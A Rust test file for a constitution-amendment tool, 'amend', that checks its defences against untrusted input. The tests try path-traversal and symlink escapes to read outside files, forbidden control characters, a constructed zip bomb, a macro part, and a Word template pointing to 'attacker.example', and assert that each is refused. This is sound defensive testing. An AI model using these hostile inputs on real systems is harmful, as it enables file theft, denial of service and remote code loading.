//! Inputs from people who may not be trusted: `amend` runs in CI on pull requests anyone can
//! open, and what it writes goes to websites and printers. A manifest reads only files inside
//! its own folder (unless `--allow-outside`); control characters never reach an output; inputs
//! that are not what they seem get a clear error or bounded work.
// See: issue 16 (trust), parts 1 to 3.

mod support;

use std::path::Path;
use std::process::Output;
use support::run::{amend_in, code, stderr, stdout};

fn write(path: &Path, text: &str) {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(path, text).unwrap();
}

// ───────────────────────── part 1: a manifest reads only its own folder ─────────────────────────

const BASE: &str = "1) Name\n\n1.1 The society is called the Riverside Society.\n";
const SHEET: &str = "Para 1.1: DELETE “Riverside”; INSERT “Hillside”.\n";
/// Text in a file outside the project, which must never be published without the option.
const SECRET: &str = "1) Name\n\n1.1 The society is called the Riverside Society (SECRET-7f3a).\n";
const SECRET_SHEET: &str = "Para 1.1: DELETE “Riverside”; INSERT “SECRET-7f3a”.\n";

/// A project in `root/project` (manifest, base, sheet) with `root/outside/` beside it.
fn project(root: &Path, base: &str, sheet: &str) {
    let dir = root.join("project");
    write(
        &dir.join("constitution.yaml"),
        &format!(
            "title: Rules\nbase: {base}\nversions:\n  - name: \"2020\"\n    date: 2020-01-01\n  - name: \"2021\"\n    date: 2021-01-01\n    amendments:\n      - file: {sheet}\n        title: Rename\n        status: carried\n"
        ),
    );
    write(&dir.join("base.txt"), BASE);
    write(&dir.join("a.amend"), SHEET);
    std::fs::create_dir_all(dir.join("texts")).unwrap();
    write(&root.join("outside/secret.txt"), SECRET);
    write(&root.join("outside/secret.amend"), SECRET_SHEET);
}

#[cfg(unix)]
fn link(target: &Path, link: &Path) {
    std::os::unix::fs::symlink(target, link).unwrap();
}

/// Every way out of the folder: (what, base, sheet, key named, line of the key).
/// The absolute path is filled in for each run.
fn ways_out() -> Vec<(&'static str, String, String, &'static str, usize)> {
    let mut ways = vec![
        ("absolute base", String::new(), "a.amend".to_string(), "base", 2),
        ("`..` in the base", "../outside/secret.txt".into(), "a.amend".into(), "base", 2),
        ("`..` in a sheet", "base.txt".into(), "../outside/secret.amend".into(), "versions[1].amendments[0].file", 9),
        ("`..` in the middle", "texts/../../outside/secret.txt".into(), "a.amend".into(), "base", 2),
    ];
    if cfg!(unix) {
        ways.push(("a link to a file outside", "linked.txt".into(), "a.amend".into(), "base", 2));
        ways.push(("a linked folder", "shared/secret.txt".into(), "a.amend".into(), "base", 2));
        let sheet_key = "versions[1].amendments[0].file";
        ways.push(("a sheet in a linked folder", "base.txt".into(), "shared/secret.amend".into(), sheet_key, 9));
    }
    ways
}

fn make_links(root: &Path) {
    #[cfg(unix)]
    {
        link(&root.join("outside/secret.txt"), &root.join("project/linked.txt"));
        link(&root.join("outside"), &root.join("project/shared"));
    }
    let _ = root;
}

#[test]
fn a_manifest_cannot_name_a_file_outside_its_folder() {
    for (what, base, sheet, key, line) in ways_out() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        // The absolute path must be this run's.
        let base = if what == "absolute base" { root.join("outside/secret.txt").display().to_string() } else { base };
        project(root, &base, &sheet);
        make_links(root);
        let dir = root.join("project");
        let out = amend_in(&dir, &["build"]);
        let err = stderr(&out);
        assert_eq!(code(&out), 2, "{what}: {err}");
        assert!(err.contains("error[E0401]"), "{what}: {err}");
        assert!(err.contains(&format!("{key}: `")), "{what}: the key is named: {err}");
        assert!(err.contains(&format!("constitution.yaml:{line}:")), "{what}: the line is named: {err}");
        assert!(err.contains("--allow-outside"), "{what}: {err}");
        assert!(!err.contains("SECRET") && !stdout(&out).contains("SECRET"), "{what}: nothing of the file is shown");
        assert!(!dir.join("build").exists(), "{what}: nothing is built");

        // Every command that reads the files refuses the same way.
        for args in [
            &["show", "2021"][..],
            &["check", "constitution.yaml"],
            &["blame"],
            &["agenda"],
            &["diff", "--from", "2020", "--to", "2021"],
            &["derive", "--from", "2020", "--to", "2021"],
            &["verify", "--published", "base.txt"],
        ] {
            let out = amend_in(&dir, args);
            assert_eq!(code(&out), 2, "{what}: {args:?}: {}", stderr(&out));
            assert!(stderr(&out).contains("E0401"), "{what}: {args:?}");
            assert!(!stdout(&out).contains("SECRET"), "{what}: {args:?}");
        }

        // With the option, the user says the file is meant: it is read.
        let out = amend_in(&dir, &["--allow-outside", "show", "2021"]);
        assert_eq!(code(&out), 0, "{what}: {}", stderr(&out));
        assert!(stdout(&out).contains("SECRET-7f3a"), "{what}: read with the option: {}", stdout(&out));
        let out = amend_in(&dir, &["build", "--allow-outside"]);
        assert_eq!(code(&out), 0, "{what}: {}", stderr(&out));
    }
}

#[test]
fn files_inside_the_folder_are_read_however_they_are_named() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    project(root, "./texts/../base.txt", "sheets/a.amend");
    write(&root.join("project/sheets/a.amend"), SHEET);
    #[cfg(unix)]
    {
        // A link that stays inside is fine.
        link(&root.join("project/base.txt"), &root.join("project/same.txt"));
        let yaml = std::fs::read_to_string(root.join("project/constitution.yaml")).unwrap();
        write(&root.join("project/constitution.yaml"), &yaml.replace("./texts/../base.txt", "same.txt"));
    }
    let out = amend_in(&root.join("project"), &["show", "2021"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(stdout(&out), BASE.replace("Riverside", "Hillside"));
    // From another folder, the manifest's folder is still the one that counts.
    let out = amend_in(root, &["show", "2021", "--manifest", "project/constitution.yaml"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
}

// ─────────────────────────── part 2: no control character is ever written ───────────────────────────

use support::strict;

/// Every character XML 1.0 forbids.
fn forbidden() -> Vec<char> {
    let mut out: Vec<char> = (0u8..0x20).map(char::from).filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    out.extend(['\u{FFFE}', '\u{FFFF}']);
    out
}

#[test]
fn a_control_character_in_any_input_is_refused_with_its_place() {
    for c in forbidden().into_iter().filter(|c| !matches!(c, '\u{B}' | '\u{C}')) {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path();
        write(&dir.join("base.txt"), BASE);
        write(&dir.join("a.amend"), SHEET);
        write(&dir.join("bad.txt"), &BASE.replace("called", &format!("cal{c}led")));
        write(&dir.join("bad.amend"), &format!("\n{}", SHEET.replace("Hillside", &format!("Hill{c}side"))));
        let code_point = format!("U+{:04X}", c as u32);
        for (args, file, line, column) in [
            (&["apply", "bad.txt", "a.amend"][..], "bad.txt", 3, 23),
            (&["check", "base.txt", "bad.amend"], "bad.amend", 2, 43),
            (&["redline", "--format", "html", "bad.txt", "a.amend"], "bad.txt", 3, 23),
            (&["derive", "base.txt", "bad.txt"], "bad.txt", 3, 23),
            (&["diff", "base.txt", "bad.txt"], "bad.txt", 3, 23),
        ] {
            let out = amend_in(dir, args);
            let err = stderr(&out);
            assert_eq!(code(&out), 2, "{code_point} {args:?}: {err}");
            assert!(stdout(&out).is_empty(), "{code_point} {args:?}: nothing is written");
            assert!(err.contains(&code_point), "{code_point} {args:?}: the character is named: {err}");
            assert!(
                err.contains(&format!("line {line}, column {column}"))
                    || err.contains(&format!("{file}:{line}:{column}")),
                "{code_point} {args:?}: {err}"
            );
            assert!(!err.contains(c), "{code_point} {args:?}: the character itself never reaches the terminal");
        }
        // In CI formats too.
        let out = amend_in(dir, &["check", "--format", "json", "base.txt", "bad.amend"]);
        let v = strict::json(stderr(&out).trim());
        assert_eq!((v["code"].as_str(), v["line"].as_u64(), v["column"].as_u64()), (Some("E0001"), Some(2), Some(43)));
        let out = amend_in(dir, &["check", "--format", "github", "base.txt", "bad.amend"]);
        assert!(stdout(&out).starts_with("::error file=bad.amend,line=2,col=43,"), "{}", stdout(&out));
        assert!(!stdout(&out).contains(c));
    }
}

#[test]
fn a_control_character_in_a_manifest_value_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    project(tmp.path(), "base.txt", "a.amend");
    let dir = tmp.path().join("project");
    let yaml = std::fs::read_to_string(dir.join("constitution.yaml")).unwrap();
    write(&dir.join("constitution.yaml"), &yaml.replace("title: Rename", "title: \"Re\\x1bname\""));
    let out = amend_in(&dir, &["build"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("versions[1].amendments[0].title: holds the control character U+001B (ESC)"),
        "{}",
        stderr(&out)
    );
    assert!(!dir.join("build").exists());
}

/// A base with a page break (form feed) and a line break inside a paragraph (vertical tab),
/// and a sheet whose new words carry a line break too, as pasted from Word.
const BREAKS_BASE: &str =
    "1) Name\n\n1.1 The society is called\u{B}the Riverside Society.\n\u{C}\n2) Members\n\n2.1 Anyone may join.\n";
const BREAKS_SHEET: &str =
    "Para 1.1: DELETE “Riverside”; INSERT “Hillside\u{B}and Dale”.\nPara 2.1: DELETE “Anyone”; INSERT “Any\u{C}one”.\n";

#[test]
fn vertical_tabs_and_form_feeds_are_line_and_page_breaks_in_every_output() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    write(&dir.join("base.txt"), BREAKS_BASE);
    write(&dir.join("a.amend"), BREAKS_SHEET);
    let out = amend_in(dir, &["apply", "base.txt", "a.amend"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    // Text output keeps them as they came.
    assert!(stdout(&out).contains("called\u{B}the Hillside\u{B}and Dale Society.\n\u{C}\n"), "{}", stdout(&out));
    for (name, args) in [
        ("redline.docx", &["redline", "base.txt", "a.amend", "-o", "redline.docx"][..]),
        ("clean.docx", &["apply", "base.txt", "a.amend", "-o", "clean.docx"]),
    ] {
        let out = amend_in(dir, args);
        assert_eq!(code(&out), 0, "{name}: {}", stderr(&out));
        let bytes = std::fs::read(dir.join(name)).unwrap();
        strict::docx(&bytes);
        let xml = zip_part(&bytes, "word/document.xml");
        assert!(
            xml.contains("<w:t xml:space=\"preserve\">Hillside</w:t><w:br/><w:t xml:space=\"preserve\">and Dale</w:t>"),
            "{name}: {xml}"
        );
        assert!(xml.contains("<w:br w:type=\"page\"/>"), "{name}: the inserted form feed is a page break: {xml}");
        assert!(!xml.contains(['\u{B}', '\u{C}']), "{name}");
    }
    let out = amend_in(dir, &["redline", "--format", "html", "base.txt", "a.amend"]);
    let page = stdout(&out);
    strict::html(&page);
    assert!(page.contains("called<br>the "), "{page}");
    assert!(page.contains("<ins>Hillside<br>and Dale</ins>"), "{page}");
    assert!(page.contains("<br class=\"page\">"), "{page}");
    let out = amend_in(dir, &["redline", "--format", "json", "base.txt", "a.amend"]);
    let v = strict::json(&stdout(&out));
    assert_eq!(v["changes"][0]["new"], "Hillside\u{B}and Dale");
}

/// The first part named `name` of a zip, as text.
fn zip_part(bytes: &[u8], name: &str) -> String {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

/// A caller of the library can pass any text; whatever comes through, no output carries a
/// character XML forbids: Word, HTML and JSON all parse strictly.
#[test]
fn every_c0_control_character_through_the_library_gives_strict_outputs() {
    use amend::render::{self, Format, Options, Style};
    let all: String = forbidden().into_iter().collect();
    let base = format!("1) Name\n\n1.1 The society{all}is called the Riverside Society.\n\n1.2 Its seat is {all}.\n");
    let sheet =
        format!("Para 1.1: DELETE “Riverside”; INSERT “Hill{all}side”.\nPara 1.2: DELETE “seat”; INSERT “home”.\n");
    let mut sources = amend::Sources::new();
    let b = sources.add("base.txt", base.as_str());
    let a = sources.add("a\u{1}.amend", sheet.as_str());
    let out = amend::consolidate(&sources, b, &[a], &amend::resolve::Options::default())
        .unwrap_or_else(|d| panic!("{}", amend::diagnostic::render_plain(&sources, &d)));
    assert!(out.text.contains(&format!("Hill{all}side")));
    let redline = amend::redline::Redline::from_outcome(&sources, &out);
    for style in Style::ALL {
        let options = Options { style, ..Options::default() };
        let page = render::render(&redline, Format::Html, &options);
        strict::html(&page);
        let v = strict::json(&render::render(&redline, Format::Json, &options));
        assert_eq!(
            v["changes"][0]["new"].as_str(),
            Some(format!("Hill{all}side").as_str()),
            "JSON carries the text escaped"
        );
    }
    let docx = amend::docx::DocxBase::from_text(&out.document);
    let revisions =
        [amend::docx::Revision { author: "a\u{1}.amend".into(), date: Some("2020-01-01T00:00:00Z".into()) }];
    for bytes in [
        docx.redline(&out.document, &out.edits, &revisions).unwrap(),
        docx.consolidated(&out.document, &out.edits).unwrap(),
        docx.marked(&out.document, &out.edits, &revisions).unwrap(),
    ] {
        strict::docx(&bytes);
    }
}

// ───────────────────── part 3: inputs that are not what they seem ─────────────────────

/// A package from parts, deflated.
fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated).large_file(true);
    for (name, bytes) in parts {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// The parts of a small Word document, to add to or break.
fn word_parts() -> Vec<(String, Vec<u8>)> {
    let bytes =
        support::docx(&support::para(Some("Clause"), None, &[("The society is called the Riverside Society.", false)]));
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|i| {
            use std::io::Read;
            let mut f = archive.by_index(i).unwrap();
            let mut b = Vec::new();
            f.read_to_end(&mut b).unwrap();
            (f.name().to_string(), b)
        })
        .collect()
}

fn with_parts(change: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>, add: &[(&str, &[u8])]) -> Vec<u8> {
    let mut parts: Vec<(String, Vec<u8>)> =
        word_parts().into_iter().filter_map(|(n, b)| change(&n, b).map(|b| (n, b))).collect();
    parts.extend(add.iter().map(|(n, b)| (n.to_string(), b.to_vec())));
    let refs: Vec<(&str, &[u8])> = parts.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
    package(&refs)
}

/// Runs `apply` (text out), then `redline -o x.docx`, on a Word base in a new folder.
fn with_word_base(bytes: &[u8], sheet: &str) -> (tempfile::TempDir, Output, Output) {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("base.docx"), bytes).unwrap();
    write(&tmp.path().join("a.amend"), sheet);
    let text = amend_in(tmp.path(), &["apply", "base.docx", "a.amend"]);
    let word = amend_in(tmp.path(), &["redline", "base.docx", "a.amend", "-o", "out.docx"]);
    (tmp, text, word)
}

const WORD_SHEET: &str = "Para 1.1: DELETE “Riverside”; INSERT “Hillside”.\n";

#[test]
fn a_word_base_that_is_not_a_word_document_gets_a_clear_error() {
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("zip header, then junk", b"PK\x03\x04 this is not a zip at all".to_vec(), "not a Word document (.docx)"),
        ("binary junk", vec![0x89, b'P', b'N', b'G', 0, 0, 0x0d, 0x0a, 0xff], "E0001"),
        ("a zip of something else", package(&[("notes.txt", b"hello")]), "the document has no part `_rels/.rels`"),
        (
            "no document part",
            with_parts(|n, b| (n != "word/document.xml").then_some(b), &[]),
            "the document has no part `word/document.xml`",
        ),
        (
            "a character reference XML forbids",
            with_parts(
                |n, b| {
                    Some(if n == "word/document.xml" {
                        String::from_utf8(b).unwrap().replace("Riverside", "River&#1;side").into_bytes()
                    } else {
                        b
                    })
                },
                &[],
            ),
            "holds the control character U+0001 (SOH), which XML does not allow",
        ),
        (
            "elements nested without end",
            with_parts(
                |n, b| {
                    Some(if n == "word/document.xml" {
                        let deep = format!(
                            "{}{}",
                            "<w:sdt><w:sdtContent>".repeat(100_000),
                            "</w:sdtContent></w:sdt>".repeat(100_000)
                        );
                        String::from_utf8(b).unwrap().replace("<w:sectPr>", &format!("{deep}<w:sectPr>")).into_bytes()
                    } else {
                        b
                    })
                },
                &[],
            ),
            "elements nested more than 256 deep",
        ),
    ];
    for (what, bytes, message) in cases {
        let (tmp, text, word) = with_word_base(&bytes, WORD_SHEET);
        for out in [&text, &word] {
            assert_eq!(code(out), 2, "{what}: {}", stderr(out));
            assert!(stderr(out).contains(message), "{what}: {}", stderr(out));
            assert!(stdout(out).is_empty(), "{what}");
        }
        assert!(!tmp.path().join("out.docx").exists(), "{what}: nothing written");
    }
}

#[test]
fn a_zip_bomb_is_refused_without_being_unpacked() {
    // 129 MB of one byte, a few hundred kilobytes deflated.
    let huge = vec![b' '; 129 << 20];
    let bytes = with_parts(
        |n, b| {
            Some(if n == "word/document.xml" {
                let doc = String::from_utf8(b).unwrap();
                let at = doc.find("<w:body>").unwrap() + "<w:body>".len();
                [&doc.as_bytes()[..at], &huge, &doc.as_bytes()[at..]].concat()
            } else {
                b
            })
        },
        &[],
    );
    assert!(bytes.len() < 1 << 20, "{} bytes", bytes.len());
    let (_, text, word) = with_word_base(&bytes, WORD_SHEET);
    for out in [&text, &word] {
        assert_eq!(code(out), 2, "{}", stderr(out));
        assert!(stderr(out).contains("the part `word/document.xml` inflates to more than 128 MB"), "{}", stderr(out));
    }
}

#[test]
fn macros_and_links_word_would_load_are_never_copied_into_output() {
    const RELS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let settings_rels = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"{RELS}/attachedTemplate\" Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
    );
    let hyperlink = |n: &str, b: Vec<u8>| {
        Some(if n == "word/_rels/document.xml.rels" {
            String::from_utf8(b).unwrap().replace("</Relationships>", &format!("<Relationship Id=\"rId9\" Type=\"{RELS}/hyperlink\" Target=\"https://example.org/rules\" TargetMode=\"External\"/></Relationships>")).into_bytes()
        } else {
            b
        })
    };
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "macros",
            with_parts(|_, b| Some(b), &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")]),
            "holds macros (`word/vbaProject.bin`)",
        ),
        (
            "an attached template on the web",
            with_parts(|_, b| Some(b), &[("word/_rels/settings.xml.rels", settings_rels.as_bytes())]),
            "attachedTemplate: `http://attacker.example/t.dotm`",
        ),
    ];
    for (what, bytes, message) in cases {
        let (tmp, text, word) = with_word_base(&bytes, WORD_SHEET);
        // Reading the text is harmless: nothing is followed or copied.
        assert_eq!(code(&text), 0, "{what}: {}", stderr(&text));
        assert!(stdout(&text).contains("Hillside"), "{what}");
        assert_eq!(code(&word), 2, "{what}: {}", stderr(&word));
        assert!(stderr(&word).contains(message), "{what}: {}", stderr(&word));
        assert!(!tmp.path().join("out.docx").exists(), "{what}: nothing written");
        let out = amend_in(tmp.path(), &["apply", "base.docx", "a.amend", "-o", "clean.docx"]);
        assert_eq!(code(&out), 2, "{what}: {}", stderr(&out));
        assert!(!tmp.path().join("clean.docx").exists(), "{what}: nothing written");
    }
    // A hyperlink is a link a reader clicks, not something Word loads: it stays.
    let (tmp, _, word) = with_word_base(&with_parts(hyperlink, &[]), WORD_SHEET);
    assert_eq!(code(&word), 0, "{}", stderr(&word));
    let out = std::fs::read(tmp.path().join("out.docx")).unwrap();
    strict::docx(&out);
    assert!(zip_part(&out, "word/_rels/document.xml.rels").contains("https://example.org/rules"));
}

#[test]
fn a_numbering_start_of_billions_gives_short_numbers() {
    // lowerLetter from 4,294,967,295 would be 165 million letters per number, and the next
    // one would overflow the count.
    let numbering = support::NUMBERING.replace(
        "<w:start w:val=\"1\"/><w:numFmt w:val=\"lowerLetter\"/>",
        "<w:start w:val=\"4294967295\"/><w:numFmt w:val=\"lowerLetter\"/>",
    );
    assert_ne!(numbering, support::NUMBERING);
    let sub = |t: &str| support::para(Some("SubClause"), None, &[(t, false)]);
    let body = [support::para(Some("Clause"), None, &[("Members:", false)]), sub("pay;"), sub("vote;"), sub("speak.")]
        .concat();
    let bytes = with_parts(
        |n, b| {
            Some(match n {
                "word/numbering.xml" => numbering.clone().into_bytes(),
                "word/document.xml" => String::from_utf8(b)
                    .unwrap()
                    .replace(
                        &support::para(
                            Some("Clause"),
                            None,
                            &[("The society is called the Riverside Society.", false)],
                        ),
                        &body,
                    )
                    .into_bytes(),
                _ => b,
            })
        },
        &[],
    );
    let base = amend::docx::read(&bytes).unwrap();
    let longest = base.text().lines().map(str::len).max().unwrap();
    assert!(longest < 2000, "{longest}");
}

#[test]
fn a_sheet_of_one_ten_megabyte_line_is_answered_with_bounded_work() {
    let base = "1) Name\n\n1.1 The society is called the Riverside Society.\n";
    for line in [
        format!("Para 1.1: DELETE “{}”; INSERT “y”.\n", "x".repeat(10 << 20)),
        format!("Para 1.1: DELETE “{}”; INSERT “y”.\n", "Riverside Society ".repeat(600_000)),
    ] {
        let mut sources = amend::Sources::new();
        let b = sources.add("base.txt", base);
        let a = sources.add("a.amend", line);
        amend::work::take();
        let err = amend::consolidate(&sources, b, &[a], &amend::resolve::Options::default()).unwrap_err();
        assert_eq!(err.iter().map(|d| d.code.as_str()).collect::<Vec<_>>(), ["E0101"]);
        // No letter-by-letter comparison of ten megabytes against the paragraph.
        assert_eq!(amend::work::take(), 0);
        let shown = amend::diagnostic::render_plain(&sources, &err);
        assert!(shown.len() < 4000, "the message stays readable: {} bytes", shown.len());
    }
}

#[test]
fn a_quote_left_open_over_long_lines_reads_each_line_a_bounded_number_of_times() {
    // The fuzz regression that took 0.7 s for 5.6 KB: a quote left open over long unquoted
    // lines, where the search for the line that closes it read each of the next fifty lines
    // (and the four it may wrap onto) again for every line.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let path = root.join("fuzz/regressions/consolidate/quote-left-open-over-long-lines-slow.amend");
    let sheet = std::fs::read_to_string(path).unwrap();
    amend::work::take();
    let _ = amend::amendment::parse(0, &sheet);
    let work = amend::work::take();
    // Each line is read once, with at most the four lines it may be wrapped onto (it was
    // some ninety times the sheet).
    let bytes = sheet.len() as u64;
    assert!(work <= 5 * bytes, "{work} bytes read as provisions in a sheet of {bytes}");
}

#[test]
fn short_misquotes_in_a_long_statute_are_compared_letter_by_letter_only_where_they_may_be_near() {
    // Quotes of some forty letters, each misspelt, against a 100 KB Act: each was compared
    // letter by letter with every window of as many words (65 million letter pairs a quote;
    // twenty such quotes took 4.9 s); windows whose letters differ too much to be similar are
    // now skipped uncompared (4 million a quote; 1 s for the twenty).
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let base =
        std::fs::read_to_string(root.join("fixtures/real/ca-2025-c5-citizenship-lost-canadians/base.txt")).unwrap();
    let quotes = [
        "becoming a citizen; and (b) no action or other",
        "for any of the purposes of this Act,",
        "subsection 5(1) or (4) or 11(1) of this",
    ];
    let sheet: String =
        quotes.iter().enumerate().map(|(i, q)| format!("{}. Delete \"{}xq{}\".\n", i + 1, &q[..8], &q[8..])).collect();
    let mut sources = amend::Sources::new();
    let b = sources.add("base.txt", base.as_str());
    let a = sources.add("a.amend", sheet.as_str());
    amend::work::take();
    let errors = amend::consolidate(&sources, b, &[a], &amend::resolve::Options::default()).unwrap_err();
    let work = amend::work::take();
    assert!(
        errors.iter().filter(|d| d.message.contains("is not in the document")).count() == quotes.len(),
        "{errors:#?}"
    );
    // Every window compared was 65 million letter pairs a quote.
    assert!(work <= 10_000_000 * quotes.len() as u64, "{work} letter comparisons for {} quotes", quotes.len());
}

#[test]
fn a_long_misquote_is_compared_on_a_shortlist() {
    // The fuzz regression that once took 0.6 s (minutes on a larger base): a 700-character
    // misquote compared letter by letter with every window of the LLA constitution.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let sheet = String::from_utf8_lossy(
        &std::fs::read(root.join("fuzz/regressions/consolidate/long-misquote-slow.amend")).unwrap(),
    )
    .into_owned();
    let base = std::fs::read_to_string(root.join("fixtures/lla_constitution/base.txt")).unwrap();
    let mut sources = amend::Sources::new();
    let b = sources.add("base.txt", base.as_str());
    let a = sources.add("a.amend", sheet.as_str());
    amend::work::take();
    let _ = amend::consolidate(&sources, b, &[a], &amend::resolve::Options::default());
    let work = amend::work::take();
    // At most 16 windows of about the quote's length each (every window: some 330 million).
    let quote = sheet.chars().count() as u64;
    assert!(work <= 16 * quote * quote * 2, "{work} letter comparisons for a quote of {quote}");
}

#[test]
fn thousands_of_versions_build_and_check() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let mut yaml = String::from("base: base.txt\nversions:\n");
    for k in 0..2000 {
        let status = if k % 2 == 1 { "carried" } else { "lost" };
        yaml.push_str(&format!(
            "  - name: v{k}\n    date: 2020\n    amendments:\n      - file: s{}.amend\n        title: T{k}\n        status: {status}\n",
            k % 2
        ));
    }
    write(&dir.join("constitution.yaml"), &yaml);
    write(&dir.join("base.txt"), BASE);
    write(&dir.join("s0.amend"), SHEET);
    write(&dir.join("s1.amend"), "Para 1.1: DELETE “the”; INSERT “our”.\nPara 1.1: DELETE “our”; INSERT “the”.\n");
    let out = amend_in(dir, &["check", "constitution.yaml"]);
    assert_eq!(code(&out), 1, "the two instructions collide: {}", stderr(&out));
    write(&dir.join("s1.amend"), "Para 1.1: DELETE “Society”; INSERT “Society”.\n");
    let out = amend_in(dir, &["check", "constitution.yaml"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("ok: 2000 versions, 1000 carried"), "{}", stderr(&out));
    let out = amend_in(dir, &["log"]);
    assert_eq!(code(&out), 0);
    assert!(stdout(&out).contains("T1999"));
}

#[test]
fn every_page_of_a_built_site_parses_strictly() {
    let tmp = tempfile::tempdir().unwrap();
    let history = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/history");
    let out = tmp.path().join("site");
    let o = amend_in(&history, &["build", "--out", out.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mut pages = 0;
    let mut stack = vec![out];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "html") {
                strict::html(&std::fs::read_to_string(&path).unwrap());
                pages += 1;
            }
        }
    }
    assert!(pages >= 4, "{pages} pages");
    for args in [&["log", "--format", "json"][..], &["blame", "--format", "json"]] {
        strict::json(&stdout(&amend_in(&history, args)));
    }
}
